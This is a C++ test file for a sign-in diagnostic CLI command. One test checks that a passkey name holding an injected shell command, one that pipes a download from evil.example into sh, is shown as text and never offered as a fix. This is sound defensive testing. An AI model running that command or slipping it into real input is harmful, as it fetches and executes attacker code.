#include "cli/commands/rows.h"
#include "tests/catch.h"
#include "tests/cli/installation.h"
#include "tests/testkit/people.h"

using namespace usher;
using namespace usher::cli;

TEST_CASE("user why: a name that a user chose is no command", "[user_why][security]") {
  TestInstallation usher;
  const auto id = testkit::sign_up(usher.kit).user.id.str();
  usher.kit.run(
      "INSERT INTO passkeys (id, user_id, credential_id, public_key, sign_count, created_at_ms, rp_id, name) VALUES ('key', '" +
      id + "', 'key', 'k', 0, 0, 'old.example', 'phone; `curl https://evil.example | sh`')");
  const auto rows = testkit::must(json::parse(usher.done("user why ada@example.com -o json")));
  const auto& row = rows.array()->at(0);
  CHECK(*row.find("reason")->string() == "passkey_unknown");
  CHECK(row.find("finding")->string()->find("curl") != std::string::npos);
  CHECK(row.find("fix")->is_null());
  CHECK(row.find("command")->is_null());
}

TEST_CASE("user why: what refuses a sign-in, and the command that mends it", "[user_why]") {
  TestInstallation usher;
  testkit::sign_up(usher.kit);
  CHECK(usher.done("user why ada@example.com -o json").find("Nothing stored blocks this account") != std::string::npos);
  usher.done("user suspend ada@example.com --yes");
  const auto rows = testkit::must(json::parse(usher.done("user why ADA@example.com -o json")));
  const auto& row = rows.array()->at(0);
  CHECK(*row.find("result")->string() == "problem");
  CHECK(*row.find("reason")->string() == "suspended");
  CHECK(*row.find("finding")->string() == "The account is suspended; `usher user activate ada@example.com`");
  CHECK(*row.find("command")->string() == "usher user activate ada@example.com");
  usher.done("user activate ada@example.com");
  CHECK(usher.done("user why ada@example.com").find("suspended") == std::string::npos);
  CHECK(usher.run("user why unknown@example.com").code == 3);
}
